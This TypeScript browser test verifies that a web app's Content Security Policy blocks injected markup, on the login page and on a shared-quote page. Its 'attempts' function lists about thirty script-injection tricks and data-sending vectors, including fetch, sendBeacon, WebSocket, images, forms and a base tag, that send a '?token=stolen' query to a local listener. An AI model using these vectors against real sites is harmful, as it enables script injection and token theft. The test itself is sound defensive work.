import { once } from 'node:events'
import { type AddressInfo, createServer } from 'node:net'
import { figure } from '#test/proof.ts'
import { settled } from './helpers.ts'
import { linkOf, sentQuote } from './test-quotes.ts'
import { type Page, expect, test } from './test.ts'

/** Records requests, and answers none. */
async function listen() {
  const heard: string[] = []
  const server = createServer((socket) => {
    socket
      .on('error', () => {})
      .once('data', (sent) => {
        heard.push(sent.toString().split('\r\n', 1)[0] ?? '')
        socket.destroy()
      })
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  return { port: (server.address() as AddressInfo).port, heard, close: () => server.close() }
}

/** What someone with injected markup could try: running a script, or sending the token away. */
const attempts = async (elsewhereOrigin: string) => {
  const ran: string[] = []
  Object.assign(globalThis, { ran })
  const run = (name: string) => `globalThis.ran.push(${JSON.stringify(name)})`
  const add = (tag: string, fields: Record<string, string>, text = '') => {
    const element = document.createElement(tag)
    for (const [name, value] of Object.entries(fields)) element.setAttribute(name, value)
    element.textContent = text
    document.body.append(element)
    return element
  }
  const data = (name: string) => `data:text/javascript,${encodeURIComponent(run(name))}`
  const blob = (name: string) => URL.createObjectURL(new Blob([run(name)], { type: 'text/javascript' }))
  const evaluated = (name: string) =>
    (Reflect.get(globalThis, 'eval') as (text: string) => unknown)(run(name))
  const compiled = (name: string) =>
    (Reflect.get(globalThis, 'Function') as unknown as (text: string) => () => void)(run(name))()
  let trying = ''
  const away = () => `${elsewhereOrigin}/${encodeURIComponent(trying)}?token=stolen`
  const tries: Record<string, () => unknown> = {
    'inline script': () => add('script', {}, run('inline script')),
    'inline module': () => add('script', { type: 'module' }, run('inline module')),
    handler: () => add('button', { onclick: run('handler') }).click(),
    'javascript link': () => add('a', { href: `javascript:${run('javascript link')}` }).click(),
    'data script': () => add('script', { src: data('data script') }),
    'blob script': () => add('script', { src: blob('blob script') }),
    'script from elsewhere': () => add('script', { src: `${away()}.js` }),
    eval: () => evaluated('eval'),
    'new Function': () => compiled('new Function'),
    'text timer': () => setTimeout(run('text timer') as unknown as () => void),
    'data import': () => import(/* @vite-ignore */ data('data import')),
    'blob worker': () => new Worker(blob('blob worker')),
    'frame with text': () => add('iframe', { srcdoc: `<script>parent.ran.push('frame with text')</script>` }),
    'javascript frame': () => add('iframe', { src: `javascript:parent.${run('javascript frame')}` }),
    frame: () => add('iframe', { src: away() }),
    object: () => add('object', { data: away() }),
    embed: () => add('embed', { src: away() }),
    picture: () => add('img', { src: away() }),
    style: () => add('link', { rel: 'stylesheet', href: away() }),
    'inline style': () => add('style', {}, `body { background: url(${away()}) }`),
    font: () => new FontFace('stolen', `url(${away()})`).load(),
    sound: () => add('audio', { src: away(), autoplay: '' }),
    prefetch: () => add('link', { rel: 'prefetch', href: away() }),
    fetch: () => fetch(away(), { mode: 'no-cors' }),
    beacon: () => navigator.sendBeacon(away()),
    socket: () => new WebSocket(away().replace('http', 'ws')),
    stream: () => new EventSource(away()),
    form: () => (add('form', { action: away(), method: 'post', target: 'away' }) as HTMLFormElement).submit(),
    base: () => {
      add('base', { href: `${elsewhereOrigin}/` })
      return fetch('below-the-base')
    },
  }
  const refused: string[] = []
  document.addEventListener('securitypolicyviolation', (event) => refused.push(event.violatedDirective))
  for (const [name, attempt] of Object.entries(tries)) {
    // Not immediately: what the test's own tools evaluate is exempt from the policy.
    await new Promise((next) => setTimeout(next, 5))
    await new Promise<void>((next) =>
      setTimeout(() => {
        trying = name
        try {
          Promise.resolve(attempt()).catch(() => {})
        } catch {
          // Refused at once.
        }
        next()
      }),
    )
  }
  await new Promise((next) => setTimeout(next, 300))
  return { ran, tried: Object.keys(tries).length, refused: refused.length }
}

async function tryAll(page: Page) {
  const listener = await listen()
  const outcome = await page.evaluate(attempts, `http://127.0.0.1:${listener.port}`)
  listener.close()
  return { ...outcome, sent: listener.heard }
}

// S9; the walk in every-screen.spec.ts checks that no screen shows the token.
test('injected content runs no script and sends nothing away', async ({ page }) => {
  let tried = 0
  for (const address of ['/login', await linkOf(await sentQuote())]) {
    await page.goto(address)
    await settled(page)
    const outcome = await tryAll(page)
    expect(outcome, address).toMatchObject({ ran: [], sent: [] })
    // Styles and `base` are blocked too, each without a message.
    expect(outcome.refused).toBeGreaterThan(20)
    tried += outcome.tried
  }
  figure('S9', `${tried} tries of markup in a page to run a script or to send something away: 0 ran, 0 sent`)
})
